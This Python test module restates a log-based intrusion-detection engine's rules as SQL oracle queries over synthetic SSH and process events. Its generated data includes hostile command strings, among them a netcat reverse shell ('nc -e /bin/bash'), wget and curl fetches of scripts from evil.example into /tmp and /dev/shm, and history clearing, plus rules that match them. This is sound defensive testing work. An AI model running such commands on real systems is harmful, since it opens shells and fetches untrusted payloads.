"""Independent SQL restatements of the registered queries, for a second engine.

They take other routes than the Spark plans where possible: self-joins for the
windows, correlated look-ups for the chains, recursion for the cooldown.
"""

from __future__ import annotations

from . import workload as w

_EV = """
raw AS (
  SELECT event_id, user_id, event_id // 5000 AS b, (event_id * 31 + user_id) % 12 AS c,
         1704067200000000 + event_id * 1000000 AS us,
         CASE WHEN event_type IN ('error', 'signup') THEN 'SSHD_Failed_Password'
              WHEN event_type = 'purchase' THEN 'SSHD_Accepted_Password'
              ELSE 'Process_Executed' END AS kind
  FROM events),
ev AS (
  SELECT event_id AS seq, us, 'host' || b AS host, kind AS event_type,
    CASE WHEN kind = 'Process_Executed' THEN '127.0.0.1'
         ELSE '203.0.' || (b % 256) || '.' || (user_id % 4) END AS source,
    CASE WHEN kind <> 'Process_Executed' THEN b % 256 END AS x,
    CASE WHEN kind <> 'Process_Executed' THEN
      CASE WHEN event_id % 2 = 0 THEN 'root' ELSE 'u' || (event_id * 7919 % 11) END END AS usr,
    CASE WHEN kind = 'SSHD_Accepted_Password' THEN CAST(1000 + event_id % 40 AS VARCHAR) END AS sshd_pid,
    CASE WHEN kind = 'Process_Executed' THEN CAST(user_id % 2 * 1000 AS VARCHAR) END AS uid,
    CASE WHEN kind = 'Process_Executed' THEN CASE c
      WHEN 0 THEN 'nmap' WHEN 1 THEN 'nc' WHEN 2 THEN 'useradd' WHEN 3 THEN 'sudo' WHEN 4 THEN 'wget'
      WHEN 5 THEN 'curl' WHEN 6 THEN 'crontab' WHEN 7 THEN 'python' ELSE 'bash' END END AS process_name,
    CASE WHEN kind = 'Process_Executed' THEN CAST(1000 + event_id % 40 AS VARCHAR) END AS pid,
    CASE WHEN kind = 'Process_Executed' THEN CAST(1000 + (event_id * 7 + user_id) % 40 AS VARCHAR) END AS ppid,
    CASE WHEN kind = 'Process_Executed' THEN '0' END AS return_code,
    CASE WHEN kind = 'Process_Executed' THEN CASE c
      WHEN 0 THEN 'nmap -p 1-65535 10.0.0.1' WHEN 1 THEN 'nc -e /bin/bash 10.0.0.2'
      WHEN 2 THEN 'useradd u' || (user_id % 11) WHEN 3 THEN 'sudo su -'
      WHEN 4 THEN 'wget -O /tmp/p' || (user_id % 5) || '.sh http://evil.example/p.sh'
      WHEN 5 THEN 'curl -o /dev/shm/q' || (user_id % 5) || ' http://evil.example/q'
      WHEN 6 THEN 'crontab -l' WHEN 7 THEN 'python -c pass' WHEN 8 THEN 'history -c'
      WHEN 9 THEN 'bash /tmp/p' || (user_id % 5) || '.sh'
      WHEN 10 THEN 'chmod 777 /dev/shm/q' || (user_id % 5) ELSE 'ls -la' END END AS command
  FROM raw)"""

_FAILED = "SELECT * FROM ev WHERE event_type = 'SSHD_Failed_Password'"
_ACCEPTED = "SELECT * FROM ev WHERE event_type = 'SSHD_Accepted_Password'"
_PROCESS = "SELECT * FROM ev WHERE event_type = 'Process_Executed'"


def _with(body: str, *ctes: str, recursive: bool = False) -> str:
    return f"WITH {'RECURSIVE ' if recursive else ''}" + ",".join([_EV, *ctes]) + "\n" + body


# Pattern rules: (position-independent) one SELECT per rule.
_RULES = [
    ("Suspicious Nmap Scan", "T1046", "MEDIUM", "process_name = 'nmap'",
     "Detects the use of nmap a common network scanning tool."),
    ("Reverse Shell with Netcat", "T1059.004", "HIGH", "process_name = 'nc' AND contains(command, '-e /bin/bash')",
     "Detects a common pattern for creating a reverse shell using netcat."),
    ("Local Account Creation", "T1136.001", "MEDIUM", "process_name = 'useradd'",
     "Detects the creation of a new user via the useradd command."),
    ("Interactive Root Shell via Sudo", "T1548.003", "HIGH", "contains(command, 'sudo su')",
     "Detects an attempt to spawn an interactive root shell using sudo a common escalation technique."),
    ("Interactive Root Shell via Sudo (Alternate)", "T1548.003", "HIGH", "contains(command, 'sudo -i')",
     "Detects an attempt to spawn an interactive root shell using ''sudo -i'' or ''sudo sh''."),
    ("Insecure File Permissions Set", "T1222.002", "MEDIUM", "contains(command, 'chmod 777')",
     "Detects chmod 777, which makes a file world-writeable and is often used to prepare payloads."),
    ("Setuid Bit Set on File", "T1548.001", "HIGH", "contains(command, 'chmod +s')",
     "Detects chmod +s, which sets the SUID bit, a technique for privilege escalation and persistence."),
    ("File Download with Wget", "T1105", "LOW", "process_name = 'wget'",
     "Detects file downloads using wget. Often benign, but suspicious if downloading to /tmp or /dev/shm."),
    ("File Download with Curl", "", "LOW", "process_name = 'curl'",
     "Detects file downloads using curl. Often benign, but suspicious if downloading to /tmp or /dev/shm."),
    ("Base64 Decoding", "", "MEDIUM", "contains(command, 'base64 -d')",
     "Detects decoding of base64 strings, a common technique to obfuscating malicious commands or payloads"),
    ("Python Script Execution from Command line", "T1059.006", "MEDIUM", "contains(command, 'python -c')",
     "Detects direct execution of Python code from the command line, often used for droppers or exploits"),
    ("Scheduled Task Creation with Crontab", "T1053.003", "MEDIUM", "process_name = 'crontab'",
     "Detects modification of crontab, a primary technique for establishing persistence"),
    ("Command History Clearing", "T1070.003", "MEDIUM", "contains(command, 'history -c')",
     "Detects clearing of the bash history, a common anti-forensics technique to hide activity."),
]

_PATTERN = "pattern AS (" + "\n UNION ALL ".join(
    f"SELECT '{name}' AS rule_name, '{sev}' AS severity, us, seq, host, source, '{text}' AS message, "
    f"'{tid}' AS mitre_technique_id, pid, command, process_name FROM ev "
    f"WHERE event_type = 'Process_Executed' AND {test}"
    for name, tid, sev, test, text in _RULES
) + ")"

_WATCH = """watch AS (
  SELECT 'IPWatchlistMatch' AS rule_name, 'HIGH' AS severity, us, seq, host, source,
         'Traffic detected from a known bad IP address: ' || source AS message,
         'TA0011' AS mitre_tactic, event_type
  FROM ev WHERE source IN ('185.193.125.241', '89.234.180.122', '45.148.10.150', '203.0.0.1'))"""

_BRUTE = f"""failed AS ({_FAILED}),
reached AS (
  SELECT a.source, a.usr, a.us, a.seq, a.host
  FROM failed a JOIN failed p ON p.source = a.source AND p.usr = a.usr
   AND p.us >= a.us - 60000000 AND (p.us < a.us OR (p.us = a.us AND p.seq <= a.seq))
  GROUP BY ALL HAVING count(*) >= 5),
brute_first AS (SELECT source, usr, min(seq) AS seq FROM reached GROUP BY source, usr),
brute AS (
  SELECT 'TooManyFailedLogins' AS rule_name, 'HIGH' AS severity, r.us, r.seq, r.host, r.source,
         'Detected 5 failed SSH logins from ' || r.source || ' for user ' || r.usr || ' in the last minute.' AS message,
         '1m0s' AS time_window, r.usr, CAST(5 AS BIGINT) AS attempt_count
  FROM reached r JOIN brute_first f USING (source, usr, seq))"""

_SPRAY = f"""sprayed AS (
  SELECT a.source, a.us, a.seq, a.host
  FROM ({_FAILED}) a JOIN ({_FAILED}) p ON p.source = a.source
   AND p.us >= a.us - 60000000 AND (p.us < a.us OR (p.us = a.us AND p.seq <= a.seq))
  GROUP BY ALL HAVING count(DISTINCT p.usr) >= 5),
spray AS (
  SELECT 'PasswordSpray' AS rule_name, 'HIGH' AS severity, us, seq, host, source,
         'Detected failed SSH logins from ' || source || ' against 5 distinct users in 1m0s.' AS message,
         '1m0s' AS time_window, CAST(5 AS BIGINT) AS user_count
  FROM sprayed s WHERE seq = (SELECT min(seq) FROM sprayed t WHERE t.source = s.source))"""

_COUNTRY = f"""logins AS (
  SELECT e.*, n.n_name AS country FROM ({_ACCEPTED}) e JOIN nation n ON n.n_nationkey = e.x % 25),
first_country AS (SELECT usr, country, min(seq) AS seq FROM logins GROUP BY usr, country),
country AS (
  SELECT 'NewCountryLogin' AS rule_name, 'MEDIUM' AS severity, l.us, l.seq, l.host, l.source,
         'User ''' || l.usr || ''' logged in from a new country: ' || l.country || ' (IP: ' || l.source || ')' AS message,
         l.usr, l.country
  FROM logins l JOIN first_country f USING (usr, country, seq))"""

_RAPID = f"""counted AS (
  SELECT host, us, seq, source, count(*) OVER (
    PARTITION BY host ORDER BY us RANGE BETWEEN 29999999 PRECEDING AND CURRENT ROW) AS n
  FROM ({_PROCESS})),
cand AS (SELECT * FROM counted WHERE n >= 10),
picked AS (
  SELECT host, min(us) AS us FROM cand GROUP BY host
  UNION ALL
  SELECT p.host, (SELECT min(c.us) FROM cand c WHERE c.host = p.host AND c.us >= p.us + 300000000) AS us
  FROM picked p WHERE p.us IS NOT NULL),
rapid AS (
  SELECT 'RapidProcessExecution' AS rule_name, 'MEDIUM' AS severity, c.us, c.seq, c.host, c.source,
         'Detected ' || c.n || ' processes executed in 30s from ' || c.source AS message,
         '30s' AS time_window, c.n AS process_count
  FROM cand c JOIN picked p ON p.host = c.host AND p.us = c.us)"""


def _span(us: str) -> str:
    """Whole-second gaps below one day as duration text."""
    s = f"({us}) // 1000000"
    return (
        f"CASE WHEN {s} < 60 THEN ({s}) || 's' WHEN {s} < 3600 THEN ({s}) // 60 || 'm' || ({s}) % 60 || 's' "
        f"ELSE ({s}) // 3600 || 'h' || ({s}) // 60 % 60 || 'm' || ({s}) % 60 || 's' END"
    )


_DOWNLOAD = f"""dl0 AS (
  SELECT host, us, seq, CASE WHEN process_name = 'wget' THEN split_part(command, ' ', 3)
         ELSE split_part(command, ' ', 3) END AS path
  FROM ({_PROCESS}) WHERE process_name IN ('wget', 'curl')),
dl AS (SELECT *, lead(seq) OVER (PARTITION BY host, path ORDER BY seq) AS next_seq FROM dl0),
dpairs AS (
  SELECT e.*, d.path, d.us AS dus, d.seq AS dseq
  FROM ({_PROCESS}) e JOIN dl d ON d.host = e.host AND d.seq < e.seq
   AND (d.next_seq IS NULL OR e.seq < d.next_seq) AND e.us - d.us <= 120000000 AND contains(e.command, d.path)
  WHERE e.process_name NOT IN ('wget', 'curl')),
download AS (
  SELECT 'CorrelatedDownloadAndExecute' AS rule_name, 'CRITICAL' AS severity, us, seq, host, source,
         'Attack Chain Detected: A file was download to ' || path || ' and then executed.' AS message,
         'T1105' AS mitre_technique, {_span("us - dus")} AS time_to_execution,
         command AS executed_command, path AS staged_filepath
  FROM dpairs p WHERE seq = (SELECT min(q.seq) FROM dpairs q WHERE q.dseq = p.dseq))"""

_ACCOUNT = f"""made AS (
  SELECT host, us, seq, split_part(command, ' ', 2) AS usr FROM ({_PROCESS}) WHERE process_name = 'useradd'),
alog AS (
  SELECT l.*, (SELECT max(m.seq) FROM made m WHERE m.host = l.host AND m.usr = l.usr AND m.seq < l.seq) AS mseq
  FROM ({_ACCEPTED}) l),
apair AS (SELECT l.*, m.us AS mus FROM alog l JOIN made m ON m.seq = l.mseq WHERE l.us - m.us <= 3600000000),
account AS (
  SELECT 'CorrelatedNewAccountUsage' AS rule_name, 'HIGH' AS severity, us, seq, host, source,
         'Attack Chain Detected: A new local account for user ''' || usr ||
         ''' was created and used to log in shortly after.' AS message,
         'TA0003' AS mitre_tactic, usr AS username, {_span("us - mus")} AS time_to_login
  FROM apair a WHERE seq = (SELECT min(z.seq) FROM apair z WHERE z.mseq = a.mseq))"""

_ESCALATION = f"""priv AS (
  SELECT p.*, (SELECT max(c.seq) FROM country c WHERE c.host = p.host AND c.seq < p.seq) AS cseq
  FROM ({_PROCESS}) p WHERE contains(command, 'sudo su') OR contains(command, 'su -')
     OR contains(command, 'sudo -i') OR contains(command, 'sudo bash') OR contains(command, 'sudo sh')),
ppair AS (SELECT p.*, c.us AS cus FROM priv p JOIN country c ON c.seq = p.cseq WHERE p.us - c.us <= 600000000),
escalation AS (
  SELECT 'CorrelatedLoginAndEscalation' AS rule_name, 'CRITICAL' AS severity, us, seq, host, source,
         'Attack Chain Detected: A Login from a new country (' || source ||
         ') was followed by a privile escalation attempt' AS message,
         'TA0004' AS mitre_tactic, 'NewCountryLogin, PrivilegeEscalationAttempt' AS correlated_events,
         {_span("us - cus")} AS time_to_escalation
  FROM ppair p WHERE seq = (SELECT min(z.seq) FROM ppair z WHERE z.cseq = p.cseq))"""


def _evasion(window_us: int) -> str:
    return f"""armed AS (
  SELECT l.*, (SELECT max(b.seq) FROM brute b WHERE b.source = l.source AND b.seq < l.seq) AS bseq
  FROM ({_ACCEPTED}) l),
sess AS (
  SELECT * FROM armed a WHERE bseq IS NOT NULL
   AND seq = (SELECT min(z.seq) FROM armed z WHERE z.bseq = a.bseq AND z.source = a.source)),
evas AS (
  SELECT p.*, (SELECT max(s.seq) FROM sess s WHERE s.host = p.host AND s.sshd_pid = p.ppid AND s.seq < p.seq) AS sseq
  FROM ({_PROCESS}) p WHERE contains(command, 'history -c') OR contains(command, 'unset HISTFILE')
     OR contains(command, 'rm /root/.bash_history')),
epair AS (
  SELECT e.*, s.source AS ip FROM evas e JOIN sess s ON s.seq = e.sseq WHERE e.us - s.us <= {window_us}),
evasion AS (
  SELECT 'CorrelatedBruteForceAndEvasion' AS rule_name, 'CRITICAL' AS severity, us, seq, host, ip AS source,
         'Attach Chain Detected: A successful login from ' || ip ||
         ' after a brute-force was followed by the defenseive evasion command: ''' || command || '''' AS message,
         'TA0005' AS mitre_tactic,
         'TooManyFailedLogins, SSHD_Accepted_Password, DefenseEvasionCommand' AS correlated_events,
         ip AS source_ip, command AS evasion_command, ppid AS linked_sshd_pid
  FROM epair p WHERE seq = (SELECT min(z.seq) FROM epair z WHERE z.sseq = p.sseq))"""


_EVERY = (_PATTERN, _WATCH, _BRUTE, _SPRAY, _COUNTRY, _RAPID, _DOWNLOAD, _ACCOUNT, _ESCALATION, _evasion(300000000))
_ALERTS = "alerts AS (" + " UNION ALL ".join(
    f"SELECT rule_name, severity, us, seq, host, source, message FROM {t}"
    for t in ("pattern", "watch", "brute", "spray", "country", "rapid", "download", "account", "escalation", "evasion")
) + ")"
_TWO = """two AS (SELECT rule_name, severity, us, seq, source FROM pattern
  UNION ALL SELECT rule_name, severity, us, seq, source FROM brute)"""

_ROW = "us, seq, process_name, command, pid, ppid, uid"
_LO, _HI = w.RANGE_START // 1_000_000 * 1_000_000, w.RANGE_END // 1_000_000 * 1_000_000

_LATEST = f"latest AS (SELECT * FROM ({_PROCESS}) QUALIFY row_number() OVER (PARTITION BY pid ORDER BY us DESC, seq DESC) = 1)"
_LATEST_HOST = (
    f"latest AS (SELECT * FROM ({_PROCESS}) "
    "QUALIFY row_number() OVER (PARTITION BY host, pid ORDER BY us DESC, seq DESC) = 1)"
)

_GAP_FRACTION = "rtrim(lpad(CAST(g % {unit} AS VARCHAR), {digits}, '0'), '0')"


def _number(value: str, unit: int, digits: int) -> str:
    frac = f"rtrim(lpad(CAST(({value}) % {unit} AS VARCHAR), {digits}, '0'), '0')"
    return f"(({value}) // {unit} || CASE WHEN ({value}) % {unit} = 0 THEN '' ELSE '.' || {frac} END)"


_DURATION = f"""CASE WHEN gap_us = 0 THEN '0s' WHEN gap_us < 1000 THEN gap_us || 'µs'
  WHEN gap_us < 1000000 THEN {_number('gap_us', 1000, 3)} || 'ms'
  WHEN gap_us < 60000000 THEN {_number('gap_us', 1000000, 6)} || 's'
  WHEN gap_us < 3600000000 THEN gap_us // 60000000 || 'm' || {_number('gap_us % 60000000', 1000000, 6)} || 's'
  ELSE gap_us // 3600000000 || 'h' || gap_us // 60000000 % 60 || 'm' || {_number('gap_us % 60000000', 1000000, 6)} || 's' END"""

ORACLES: dict[str, str] = {
    "parse_failed_login": _with(f"SELECT seq, host, us, event_type, source, usr FROM ({_FAILED})"),
    "parse_accepted_login": _with(f"SELECT seq, host, us, event_type, source, usr, sshd_pid FROM ({_ACCEPTED})"),
    "parse_process_exec": _with(
        "SELECT seq, host, us, event_type, source, uid, process_name, pid, ppid, return_code, command "
        f"FROM ({_PROCESS})"
    ),
    "parse_disposition_counts": """
        SELECT 'event' AS disposition, count(*) AS count FROM events
        UNION ALL SELECT 'blank', count(*) FROM events WHERE event_type = 'purchase'
        UNION ALL SELECT 'ignored', count(*) FROM events WHERE event_type = 'purchase'
        UNION ALL SELECT 'error', 2 * count(*) FROM events WHERE event_type = 'purchase'""",
    "private_ip_filter": """
        WITH p AS (SELECT event_id AS seq, [10, 172, 192, 203, 127, 256][event_id % 6 + 1] AS a,
                   (event_id * 7 + user_id) % 256 AS b, event_id % 256 AS c, user_id % 256 AS d FROM events)
        SELECT seq, a || '.' || b || '.' || c || '.' || d AS ip,
               CASE WHEN a <= 255 THEN CAST(a AS BIGINT) * 16777216 + b * 65536 + c * 256 + d END AS ip_number,
               CASE WHEN a <= 255 THEN a = 10 OR (a = 172 AND b BETWEEN 16 AND 31) OR (a = 192 AND b = 168) END
                 AS is_private
        FROM p""",
    "geo_enrich": _with("""
        SELECT e.seq, e.source, coalesce(n.n_name, '') AS country, coalesce(lower(n.n_name), '') AS country_name,
               CASE WHEN n.n_name IS NOT NULL THEN 'City ' || e.x END AS city,
               CASE WHEN n.n_nationkey <> 0 AND e.x <> 0 THEN printf('%.4f', n.n_nationkey * 1.5::DOUBLE) END AS latitude,
               CASE WHEN n.n_nationkey <> 0 AND e.x <> 0 THEN printf('%.4f', e.x * 0.25::DOUBLE) END AS longitude
        FROM ev e LEFT JOIN nation n ON n.n_nationkey = e.x % 25"""),
    "rules_stateless": _with("SELECT * FROM pattern", _PATTERN),
    "alert_severity": _with("""
        SELECT seq, rule_name, severity,
               CAST(CASE severity WHEN 'LOW' THEN 1 WHEN 'MEDIUM' THEN 2 WHEN 'HIGH' THEN 3 ELSE 4 END AS BIGINT) AS severity_level,
               severity IN ('HIGH', 'CRITICAL') AS high_priority,
               CASE WHEN severity IN ('HIGH', 'CRITICAL') THEN 'ERROR' ELSE 'WARN' END AS log_level
        FROM two""", _PATTERN, _BRUTE, _TWO),
    "alert_id": _with(
        "SELECT seq, rule_name, rule_name || '-' || us // 1000000 || '-' || source AS alert_id FROM two",
        _PATTERN, _BRUTE, _TWO,
    ),
    "duration_text": f"""
        WITH g AS (SELECT event_id AS seq, CASE event_id % 4 WHEN 0 THEN event_id % 1000
                   WHEN 1 THEN (event_id * 37) % 1000000 WHEN 2 THEN (event_id * 12345) % 60000000
                   ELSE event_id * 987654 END AS gap_us FROM events)
        SELECT seq, gap_us, {_DURATION} AS gap_text FROM g""",
    "event_json": _with("""
        SELECT seq, '{"Timestamp":"' || strftime(make_timestamp(us), '%Y-%m-%dT%H:%M:%SZ') || '","EventType":"' ||
          event_type || '","Source":"' || source || '","Metadata":{' ||
          CASE event_type WHEN 'SSHD_Failed_Password' THEN '"user":"' || usr || '"'
            WHEN 'SSHD_Accepted_Password' THEN '"sshd_pid":"' || sshd_pid || '","user":"' || usr || '"'
            ELSE '"command":"' || command || '","pid":"' || pid || '","ppid":"' || ppid || '","process_name":"' ||
              process_name || '","return_code":"' || return_code || '","uid":"' || uid || '"' END || '}}' AS document
        FROM ev"""),
    "ip_watchlist": _with("SELECT * FROM watch", _WATCH),
    "failed_logins": _with("SELECT * FROM brute", _BRUTE),
    "password_spray": _with("SELECT * FROM spray", _SPRAY),
    "new_country_login": _with("SELECT * FROM country", _COUNTRY),
    "rapid_process": _with("SELECT * FROM rapid", _RAPID, recursive=True),
    "download_execute": _with("SELECT * FROM download", _DOWNLOAD),
    "new_account_use": _with("SELECT * FROM account", _ACCOUNT),
    "login_escalation": _with("SELECT * FROM escalation", _COUNTRY, _ESCALATION),
    "brute_force_evasion": _with("SELECT * FROM evasion", _BRUTE, _evasion(300000000)),
    "brute_force_evasion_wide": _with("SELECT * FROM evasion", _BRUTE, _evasion(w.WIDE_EVASION_WINDOW)),
    "all_alerts": _with("SELECT * FROM alerts", *_EVERY, _ALERTS, recursive=True),
    "events_total": "SELECT count(*) AS count FROM events",
    "alerts_by_rule": _with(
        "SELECT rule_name, count(*) AS count FROM alerts GROUP BY rule_name", *_EVERY, _ALERTS, recursive=True
    ),
    "alerts_by_severity": _with(
        "SELECT severity, count(*) AS count FROM alerts GROUP BY severity", *_EVERY, _ALERTS, recursive=True
    ),
    "search_exact": _with(f"SELECT {_ROW} FROM ({_PROCESS}) WHERE process_name = 'wget' ORDER BY us DESC"),
    "search_first_page": _with(
        f"SELECT {_ROW} FROM ({_PROCESS}) WHERE process_name = 'wget' ORDER BY us DESC, seq LIMIT 10"
    ),
    "search_command": _with(f"""
        SELECT * FROM (SELECT {_ROW}, len(list_intersect(['sudo', 'bin', 'bash'],
          regexp_split_to_array(lower(command), '[^a-z0-9_]+'))) AS matched FROM ({_PROCESS})) WHERE matched > 0"""),
    "search_time_range": _with(f"SELECT {_ROW} FROM ({_PROCESS}) WHERE us BETWEEN {_LO} AND {_HI}"),
    "search_combined": _with(f"""
        SELECT {_ROW} FROM ({_PROCESS}) WHERE us BETWEEN {_LO} AND {_HI} AND process_name = 'bash' AND uid = '1000'
          AND len(list_intersect(['history', 'tmp'], regexp_split_to_array(lower(command), '[^a-z0-9_]+'))) > 0"""),
    "top_process_name": _with(f"""
        SELECT process_name AS item, count(*) AS count FROM ({_PROCESS}) GROUP BY item
        ORDER BY count DESC, item LIMIT 10"""),
    "top_uid": _with(f"""
        SELECT uid AS item, count(*) AS count FROM ({_PROCESS}) GROUP BY item ORDER BY count DESC, item LIMIT 10"""),
    "top_with_range": _with(f"""
        SELECT command AS item, count(*) AS count FROM ({_PROCESS}) WHERE us BETWEEN {_LO} AND {_HI}
        GROUP BY item ORDER BY count DESC, item LIMIT 5"""),
    "process_ancestry": _with(f"""
        SELECT depth, {_ROW} FROM walk""", _LATEST, f"""walk AS (
        SELECT CAST(0 AS BIGINT) AS depth, l.* FROM latest l WHERE pid = '{w.HUNTED_PID}'
        UNION ALL
        SELECT walk.depth + 1, l.* FROM walk JOIN latest l ON l.pid = walk.ppid WHERE walk.depth < 19)""",
        recursive=True),
    "process_ancestry_all": _with("""
        SELECT start_pid, depth, us, seq, command, pid, ppid FROM walk""", _LATEST, """walk AS (
        SELECT pid AS start_pid, CAST(0 AS BIGINT) AS depth, l.* FROM latest l
        UNION ALL
        SELECT walk.start_pid, walk.depth + 1, l.* FROM walk JOIN latest l ON l.pid = walk.ppid
        WHERE walk.depth < 19)""", recursive=True),
    "process_ancestry_by_host": _with("""
        SELECT host, start_pid, depth, us, seq, command, pid, ppid FROM walk""", _LATEST_HOST, """walk AS (
        SELECT pid AS start_pid, CAST(0 AS BIGINT) AS depth, l.* FROM latest l
        UNION ALL
        SELECT walk.start_pid, walk.depth + 1, l.* FROM walk JOIN latest l ON l.pid = walk.ppid AND l.host = walk.host
        WHERE walk.depth < 19)""", recursive=True),
    "process_history": _with(f"SELECT {_ROW} FROM ({_PROCESS}) ORDER BY us, seq"),
    "failed_login_times": _with(f"SELECT us, seq FROM ({_FAILED}) WHERE source = '{w.HUNTED_IP}' ORDER BY us, seq"),
}

for _name in (
    "rules_stateless", "ip_watchlist", "failed_logins", "password_spray", "new_country_login", "rapid_process",
    "download_execute", "new_account_use", "login_escalation",
):
    ORACLES[f"stream_{_name}"] = ORACLES[_name]
ORACLES["stream_brute_force_evasion"] = ORACLES["brute_force_evasion_wide"]
ORACLES["stream_all_alerts"] = ORACLES["all_alerts"]
ORACLES["stream_counters"] = _with(
    """SELECT 'events_total' AS counter, NULL::VARCHAR AS label, count(*) AS n FROM events
       UNION ALL SELECT 'alerts_by_rule', rule_name, count(*) FROM alerts GROUP BY rule_name
       UNION ALL SELECT 'alerts_by_severity', severity, count(*) FROM alerts GROUP BY severity""",
    *_EVERY, _ALERTS, recursive=True,
)
_LOGGED = " UNION ALL ".join(f"SELECT rule_name, severity, us, seq, host, source, message FROM {t}" for t in ("pattern", "brute"))
ORACLES["alert_log"] = _with(
    f"""SELECT *, rule_name || '-' || us // 1000000 || '-' || source AS alert_id,
               CASE WHEN severity IN ('HIGH', 'CRITICAL') THEN 'ERROR' ELSE 'WARN' END AS log_level FROM ({_LOGGED})""",
    _PATTERN, _BRUTE,
)
ORACLES["log_quarantine"] = _with(f"""
    SELECT seq, host, line, disposition FROM ({_ACCEPTED}), (VALUES
      ('Jan 01 00:00:00 my-server cron[1]: session opened', 'ignored'),
      ('Xyz 01 00:00:00 my-server sshd[1]: Failed password for root from 203.0.0.9 port 1 ssh2', 'error'),
      ('2024-13-01T00:00:00Z 0 ls 1 1 0 ls', 'error')) AS v(line, disposition)""")
ORACLES["event_documents_roundtrip"] = _with(
    "SELECT us, event_type, source, usr, sshd_pid, process_name, pid, ppid, uid, return_code, command FROM ev"
)
ORACLES["stored_events"] = ORACLES["search_time_range"]

# Commands of a host in order, each with its usable downloads, newest first; a list of what is used is carried along.
ORACLES["download_execute_contested"] = _with(
    f"""SELECT 'CorrelatedDownloadAndExecute' AS rule_name, 'CRITICAL' AS severity, c.us, c.seq, c.host, c.source,
         'Attack Chain Detected: A file was download to ' || d.path || ' and then executed.' AS message,
         'T1105' AS mitre_technique, {_span("c.us - d.us")} AS time_to_execution,
         c.command AS executed_command, d.path AS staged_filepath
       FROM steps s JOIN cmds c ON c.host = s.host AND c.rn = s.rn JOIN dl d ON d.host = s.host AND d.seq = s.pick""",
    f"""pe AS (
  SELECT * REPLACE (CASE WHEN starts_with(command, 'bash /tmp/') OR starts_with(command, 'chmod 777 ')
    THEN 'sh /tmp/p' || seq % 5 || '.sh /dev/shm/q' || (seq // 3) % 5 ELSE command END AS command) FROM ({_PROCESS})),
dl0 AS (SELECT host, us, seq, split_part(command, ' ', 3) AS path FROM pe WHERE process_name IN ('wget', 'curl')),
dl AS (SELECT *, lead(seq) OVER (PARTITION BY host, path ORDER BY seq) AS next_seq FROM dl0),
cmds AS (
  SELECT *, row_number() OVER (PARTITION BY host ORDER BY seq) AS rn FROM (
  SELECT e.host, e.us, e.seq, e.source, e.command, list(d.seq ORDER BY d.seq DESC) AS opts
  FROM pe e JOIN dl d ON d.host = e.host AND d.seq < e.seq AND (d.next_seq IS NULL OR e.seq < d.next_seq)
   AND e.us - d.us <= 120000000 AND contains(e.command, d.path)
  WHERE e.process_name NOT IN ('wget', 'curl') GROUP BY ALL)),
steps AS (
  SELECT DISTINCT host, 0::BIGINT AS rn, []::BIGINT[] AS used, NULL::BIGINT AS pick FROM cmds
  UNION ALL
  SELECT host, rn + 1, CASE WHEN p IS NULL THEN used ELSE list_append(used, p) END, p
  FROM (SELECT s.host, s.rn, s.used, list_filter(c.opts, lambda o: NOT list_contains(s.used, o))[1] AS p
        FROM steps s JOIN cmds c ON c.host = s.host AND c.rn = s.rn + 1))""",
    recursive=True,
)
